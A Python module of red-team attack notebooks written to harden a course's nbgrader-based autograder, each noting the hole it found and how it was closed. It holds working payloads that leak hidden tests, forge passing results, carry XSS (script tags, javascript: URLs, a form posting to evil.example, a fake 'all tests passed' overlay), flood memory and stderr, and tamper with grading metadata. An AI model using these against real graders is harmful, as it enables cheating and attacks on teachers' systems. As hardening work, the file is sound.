"""More hostile submissions (the hostile review of 71f447f): new angles beyond :mod:`attacks`.

Each builder returns a notebook made from the released exercise. Some of these
found holes (marked HOLE below, each with what closed it); their tests in
:mod:`tests.test_attacks_extra` assert the safe behaviour.

``PYTHONPATH=.:tests python -m attacks.extra DIR`` writes them to ``DIR`` to try by hand.
"""
import copy
from pathlib import Path

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from attacks import LAYERS, answer, dumps, index, insert_after, release

FC = "03_flatten_consecutive"
MIME = "application/vnd.wavenet.probe.v1+json"


def append(nb, source):
    """A code cell at the very end: it runs after every hidden test."""
    nb = copy.deepcopy(nb)
    nb.cells.append(new_code_cell(source))
    return nb


# ---------------------------------------------------------------- hidden tests out through display ids

# HOLE 1 (closed: the grader applies no display-id update). A cell *before* the first hidden test shows a display with a display_id; a cell *after* the
# hidden tests sends update_display_data for that id. nbclient rewrites the earlier cell's output in
# place (NotebookClient._update_display_id, called before Execute.output, so the output cap does not
# see it either). The feedback keeps text outputs of cells before the first hidden test: the hidden
# test code, read from `In`, ends up in the page.
DISPLAY_ID_PLACEHOLDER = '''
from IPython.display import display
display({"text/plain": "nothing to see"}, raw=True, display_id="later")
'''

DISPLAY_ID_UPDATE = '''
from IPython.display import update_display
history = "\\n".join(In)
leak = "\\n".join(l for l in history.splitlines() if l.startswith("check("))
update_display({"text/plain": "LEAK " + leak[:1800]}, raw=True, display_id="later")
'''

# HOLE 1b. The same trick on a *test cell* that runs before the first hidden test: a check of the notebook's
# own shows a "probe stopped" record under a display_id, and a cell after the hidden tests rewrites it. The
# judge decides that cell with safe=False (it ran before any hidden code), so the record's "what" and
# exception message reach the test's message: the record JSON, grades.csv and the feedback.
RECORD_ID_PLACEHOLDER = '''
from IPython.display import display
from wavenet.checks import check as _course_check
def check(test, *objects, **options):
    if test == "linear_shapes":
        display({"application/vnd.wavenet.probe.v1+json": {"v": 1, "test": test, "stop": {
            "kind": "raised", "what": "Linear", "type": "ValueError", "message": "later"}}},
            raw=True, display_id="record")
        return
    return _course_check(test, *objects, **options)
'''

RECORD_ID_UPDATE = '''
from IPython.display import update_display
leak = " | ".join(l for l in "\\n".join(In).splitlines() if l.startswith("check("))
update_display({"application/vnd.wavenet.probe.v1+json": {"v": 1, "test": "linear_shapes", "stop": {
    "kind": "raised", "what": leak[:200], "type": "ValueError", "message": leak[200:400] or leak[:200]}}},
    raw=True, display_id="record")
'''


def display_id_leak():
    nb = insert_after(release(LAYERS), "setup", DISPLAY_ID_PLACEHOLDER)
    return append(nb, DISPLAY_ID_UPDATE)


def record_id_leak():
    nb = insert_after(release(LAYERS), "setup", RECORD_ID_PLACEHOLDER)
    return append(nb, RECORD_ID_UPDATE)


# ---------------------------------------------------------------- points without code

# HOLE 2c (a judge bug reachable by honest-looking code; closed: no test passes on NaN data). linear_init compares the weight's std and mean
# with `abs(r - 1) > 0.05`: NaN compares False, so a Linear whose weight is all NaN passes.
NAN_LINEAR = '''
class Linear:
    def __init__(self, fan_in, fan_out, bias=True):
        self.weight = torch.full((fan_in, fan_out), float("nan"))
        self.bias = torch.zeros(fan_out) if bias else None

    def __call__(self, x):
        raise NotImplementedError()

    def parameters(self):
        raise NotImplementedError()
'''


def nan_linear():
    return answer(release(LAYERS), "Linear", NAN_LINEAR)


# The threat model admits that a kernel knows its seed and can answer structural tests without the
# learner's code. This forger measures how far that goes: it answers from probe.inputs(test, seed) alone,
# the structural tests with shapes, counts and flags, and (FORGE_VALUES) the value tests with torch and the
# grader's own oracle, which the kernel's /course held (HOLE 2a; closed: the kernel's oracle.py has no
# reference left, so its BatchNorm answers raise). Nothing of Linear, BatchNorm1d, Tanh or
# FlattenConsecutive is written.
FORGE = '''
import math, torch
from wavenet.checks import context, probe
from wavenet.checks import oracle
SEED = context.current().seed if context.current() else 0
VALUES = {values}

def _bump(t, d):
    return t + d

def _structural(test, inp, options):
    if test == "linear_shapes":
        fi, fo = inp["fan_in"], inp["fan_out"]
        return {{"weight": [fi, fo], "bias": [fo], "outs": [list(x.shape[:-1]) + [fo] for x in inp["xs"]]}}
    if test == "linear_init":
        return {{"layers": [{{"shape": [fi, fo], "std": fi ** -0.5, "mean": 0.0, "bias_absmax": 0.0}}
                           for fi, fo in inp["layers"]]}}
    if test == "linear_parameters":
        return {{"n": 2, "weight": inp["W"] + inp["offsets"][0], "bias": inp["b"] + inp["offsets"][1]}}
    if test == "batchnorm_shapes":
        out = []
        for nd in options.get("ndims", (2, 3)):
            x = inp["xs"][nd]
            out += [list(x.shape), list(x[:1].shape)]
        return {{"shapes": out}}
    if test == "batchnorm_init":
        return {{"layers": [{{"gamma": torch.ones(C), "beta": torch.zeros(C), "running_mean": torch.zeros(C),
                             "running_var": torch.ones(C), "training": True}} for C in inp["Cs"]]}}
    if test == "batchnorm_no_graph":
        return {{"graph": {{"running_mean": False, "running_var": False}}, "x_grad": list(inp["x"].shape)}}
    if test == "batchnorm_stats_count":
        return {{"running_mean": [inp["C"]], "running_var": [inp["C"]]}}
    if test == "batchnorm_parameters":
        return {{"n": 2, "gamma": inp["gamma"] + inp["offsets"][0], "beta": inp["beta"] + inp["offsets"][1],
                "running_mean": inp["mean"], "running_var": inp["var"]}}
    if test in ("flatten_consecutive_pairs", "flatten_consecutive_full", "flatten_consecutive_batch_of_one"):
        key = {{"flatten_consecutive_pairs": "pairs", "flatten_consecutive_full": "full",
               "flatten_consecutive_batch_of_one": "one"}}[test]
        shapes = []
        for n, (B, T, C) in inp[key]:
            shapes.append([B, C * T] if n == T else [B, T // n, C * n])
        return {{"shapes": shapes}}
    if test == "flatten_consecutive_parameters":
        h = inp["counts"]
        return {{"n": 0, "model_count": oracle.hierarchical_count(8, h["n_embd"], h["n_hidden"])}}
    if test == "hierarchical_shapes":
        h = inp["hier"]
        B, e, hid = h["B"], h["n_embd"], h["n_hidden"]
        return {{"shapes": [[B, 4, 2 * e], [B, 2, 2 * hid], [B, 2 * hid]], "logits": [B, 27]}}
    return None

def _values(test, inp, options):
    if test == "linear_forward":
        return {{"outs": [x @ inp["W"] + inp["b"] for x in inp["xs"][:2]]}}
    if test == "linear_no_bias":
        return {{"out": inp["xs"][0] @ inp["W"], "n": 1, "numel": inp["W"].numel()}}
    if test == "tanh":
        return {{"outs": [torch.tanh(x) for x in inp["xs"]], "n": 0}}
    if test == "batchnorm_train_output":
        return {{"outs": [oracle.bn_train(c["x"], c["gamma"], c["beta"], c["kwargs"].get("eps", 1e-5))
                         for c in inp["outputs"]]}}
    if test == "batchnorm_running_stats":
        runs = []
        for run in inp["runs"]:
            C = inp["C"]
            start = (torch.zeros(C), torch.ones(C))
            seen = [list(start)] + [[m, v] for m, v in oracle.bn_running(run["batches"], 1e-5,
                                                                          run["kwargs"].get("momentum", 0.1), *start)]
            runs.append({{"stats": seen}})
        return {{"runs": runs}}
    if test == "batchnorm_eval":
        ev = inp["eval"]
        out = oracle.bn_eval(ev["x"], ev["gamma"], ev["beta"], ev["mean"], ev["var"], 1e-5)
        return {{"before": [ev["mean"], ev["var"]], "after": [ev["mean"], ev["var"]], "out": out, "one": out[:1]}}
    if test == "flatten_consecutive_values":
        x = inp["x"]
        B, T, C = x.shape
        return {{"outs": [x.reshape(B, T // n, C * n).squeeze(1) if n == T else x.reshape(B, T // n, C * n)
                         for n in (2, 4, 8)]}}
    return None

def check(test, *objects, **options):
    inp = probe.inputs(test, SEED, options)
    data = _structural(test, inp, options)
    if data is None and VALUES:
        data = _values(test, inp, options)
    if data is None:
        raise NotImplementedError(test)
    context.emit({{"v": 1, "test": test, "data": data}})  # the course's own emit: no IPython in sight
'''


def forger(assignment, values):
    return insert_after(release(assignment), "setup", FORGE.format(values=bool(values)))


# ---------------------------------------------------------------- the feedback page

XSS_LINEAR = '''
class Linear:
    def __init__(self, fan_in, fan_out, bias=True):
        raise ValueError("<img src=x onerror=alert('evalue')><script>alert('evalue')</script>")
'''
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'svg\')"><script>alert(\'svg\')</script></svg>')


def feedback_xss():
    """Markup the learner controls in the feedback page: markdown, raw cells, tags, attachments, metadata.

    The page must carry no script, no event handler and no javascript: URL."""
    import base64
    nb = answer(release(LAYERS), "Linear", XSS_LINEAR)  # its message is shown: linear_shapes runs before hidden tests
    at = index(nb, "setup") + 1
    md = new_markdown_cell(
        "# notes\n<img src=x onerror=\"alert('img')\">\n<script>alert('md')</script>\n"
        "[click](javascript:alert('link'))\n<a href=\"javascript:alert('a')\">a</a>\n"
        "<iframe src=\"javascript:alert('iframe')\"></iframe>\n"
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:9999\">"
        "FORGED-OVERLAY all tests passed 16/16</div>\n"
        "<form action=\"https://evil.example/\"><input name=p></form>\n"
        "![pic](attachment:pic.svg)\n$\\href{javascript:alert('mathjax')}{x}$\n")
    md.attachments = {"pic.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}}
    md.metadata["tags"] = ["x\" onmouseover=\"alert('tag')"]
    raw = new_raw_cell("<script>alert('raw')</script><img src=x onerror=\"alert('rawimg')\">")
    raw.metadata["format"] = "text/html"
    raw2 = new_raw_cell("<script>alert('raw2')</script>")
    raw2.metadata["raw_mimetype"] = "text/html"
    code = new_code_cell("print('<script>alert(\"out\")</script>')\n"
                         "from IPython.display import display, HTML, Javascript\n"
                         "display(HTML(\"<img src=x onerror=\\\"alert('html')\\\">\"))\n"
                         "display(Javascript(\"alert('js')\"))\n"
                         "display({'image/svg+xml': '" + SVG.replace("'", "\\'") + "'}, raw=True)\n")
    code.metadata["tags"] = ["y\" onmouseover=\"alert('codetag')"]
    nb.cells[at:at] = [md, raw, raw2, code]
    nb.metadata["title"] = "</title><script>alert('title')</script>"
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {"x": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                        "model_module_version": "2.0.0",
                        "state": {"value": "</script><script>alert('widget')</script>"}}},
        "version_major": 2, "version_minor": 0}}
    return nb


# ---------------------------------------------------------------- the grader's memory and disk

# One iopub message of N bytes: the grader's client receives and parses all of it before the output cap
# (execute.py) looks at its size.
BIG_STREAM = '''
import sys
sys.stdout.write("x" * {n})
sys.stdout.flush()
'''

# HOLE 3 (closed with 3b and 3c: no display-id updates; the cap counts every output). update_display_data is applied by nbclient before Execute.output: no cap at all. The data lands
# in the autograded notebook the grader writes, reads back and renders.
BIG_UPDATE = '''
from IPython.display import display, update_display
for k in range({k}):
    display({{"text/plain": "small"}}, raw=True, display_id=f"big{{k}}")
for k in range({k}):  # one at a time: the kernel never holds more than one
    update_display({{"text/plain": "y" * {n}}}, raw=True, display_id=f"big{{k}}")
'''


def big_stream(n=150_000_000):
    return insert_after(release(LAYERS), "setup", BIG_STREAM.format(n=n))


def big_update(n=50_000_000, k=6):
    return insert_after(release(LAYERS), "setup", BIG_UPDATE.format(n=n, k=k))

# HOLE 3b. The output cap counts a display's text and data, not its metadata, and an empty display counts 0
# bytes: outputs pile up in the grader without limit (the kernel frees each one after sending it).
MANY_OUTPUTS = '''
from IPython.display import display
for i in range({n_meta}):
    display({{"text/plain": ""}}, raw=True, metadata={{"m": "q" * 1_000_000}})
'''
MANY_EMPTY = '''
from IPython.display import display
for i in range({n_empty}):
    display({{"text/plain": ""}}, raw=True)
'''


# Red team 2: the cap is per cell; many cells, each printing just under it, add up without a whole-notebook cap
# (150 cells of ~1 MB made a 45 KB submission a 144 MB autograded notebook and formgrader page).
CELL_UNDER_CAP = 'print("y" * 900_000)'


def many_outputs(n_meta=150, n_empty=100_000):
    nb = insert_after(release(LAYERS), "setup", MANY_EMPTY.format(n_empty=n_empty))
    return insert_after(nb, "setup", MANY_OUTPUTS.format(n_meta=n_meta))


# ---------------------------------------------------------------- what nbgrader itself reads

# nbgrader gives partial credit from a number a grade cell shows as execute_result; a test cell's outputs
# are replaced by the judge's verdict, so a check that returns 1.0 (and shows a score) gets nothing.
PARTIAL_CREDIT = '''
from IPython.display import display
def check(test, *objects, **options):
    display({"text/plain": "16.0"}, raw=True)
    return 1.0
'''

# the test cells' nbgrader flags flipped: no longer grade cells, answer cells, unlocked, worth 100 points
def metadata_flags():
    nb = insert_after(release(LAYERS), "setup", "def check(*args, **kwargs):\n    return 1.0\n")
    for i, c in enumerate(nb.cells):
        meta = c.metadata.get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            kind = i % 3
            if kind == 0:
                meta.update(solution=True, points=100)
            elif kind == 1:
                meta.update(grade=False, locked=False)
            else:
                meta.update(locked=False, points=100)
                c.cell_type = "markdown"
                c.pop("outputs", None)
                c.pop("execution_count", None)
    extra = new_code_cell("1.0")
    extra.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 100,
                                  "grade_id": "test_bonus", "schema_version": 3}
    nb.cells.insert(index(nb, "setup") + 1, extra)
    return nb


# a thread started before the hidden tests that keeps printing the input history (and its latest cell)
THREAD = '''
import threading, time, sys
def chatter():
    while True:
        print("THREAD", "\\n".join(In)[-1500:], flush=True)
        time.sleep(0.2)
threading.Thread(target=chatter, daemon=True).start()
'''


def thread_output():
    return insert_after(release(LAYERS), "setup", THREAD)


def partial_credit():
    return insert_after(release(LAYERS), "setup", PARTIAL_CREDIT)


# ---------------------------------------------------------------- the batch

def build(paths):
    """``{file name: bytes}`` for one ``grade-all 01_layers`` batch, honest student last.

    ``paths``: ``{"honest": the honest student's file name}``.
    """
    from submissions import solved
    nbs = {
        "a_display_id_leak": display_id_leak(),
        "a_record_id_leak": record_id_leak(),
        "a_nan_linear": nan_linear(),
        "a_forge_struct": forger(LAYERS, values=False),
        "a_forge_values": forger(LAYERS, values=True),
        "a_feedback_xss": feedback_xss(),
        "a_partial_credit": partial_credit(),
        "a_metadata_flags": metadata_flags(),
        "a_thread_output": thread_output(),
    }
    files = {f"{k}.ipynb": dumps(v) for k, v in nbs.items()}
    files[Path(paths["honest"]).name] = dumps(solved(LAYERS))
    return files


def write(folder, paths):
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in build(paths).items():
        (folder / name).write_bytes(data)


# ---------------------------------------------------------------- the sandbox, again

# a cell that ignores the grader's interrupt and sleeps (no CPU: the CPU watch does not see it);
# tests/test_execute_watchdog.py runs it
DEAF_SLEEPER = '''
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
time.sleep(10 ** 6)
'''


# HOLE 8 (closed: the kernel's stderr goes to /dev/null). The kernel's stderr is the grader's (SandboxKernelManager only sends stdout to /dev/null): whatever it
# writes to fd 2 reaches the teacher's terminal (`grade`) or the batch's per-student log (`grade-all`), unbounded
# and raw, escape sequences included; and the log's tail becomes the record's reason when the grading process
# crashes ("the grader crashed (exit N): <tail>").
STDERR = '''
import os
os.write(2, b"\\x1b]0;PWNED\\x07KERNEL-STDERR " + "\\n".join(In)[-400:].encode() + b"\\n")
for _ in range({mb}):
    os.write(2, b"e" * 2**20)
'''


def stderr_flood(mb=50):
    return append(release(LAYERS), STDERR.format(mb=mb))


# HOLE 3c. Probe records are exempt from the output cap one by one (each up to 2 * MAX_BYTES), and there is no
# count: a learner cell can show any number of them; they stay in the autograded notebook.
MANY_RECORDS = '''
from IPython.display import display
pad = {{f"k{{i}}": ["a" * 1999] * 500 for i in range(7)}}  # about 7 MB of JSON, under the 8 MB a record may have
for _ in range({n}):
    display({{"application/vnd.wavenet.probe.v1+json": {{"v": 1, "test": "tanh", "data": pad}}}}, raw=True)
'''


def main(out):
    out = Path(out)
    write(out / LAYERS, {"honest": "z_honest.ipynb"})
    for name, nb in (("a_forge_values", forger(FC, True)), ("a_forge_struct", forger(FC, False))):
        (out / FC).mkdir(parents=True, exist_ok=True)
        (out / FC / f"{name}.ipynb").write_bytes(dumps(nb))
    print(f"wrote the extra attacks to {out}/<assignment>/")


if __name__ == "__main__":
    import sys
    main(sys.argv[1])
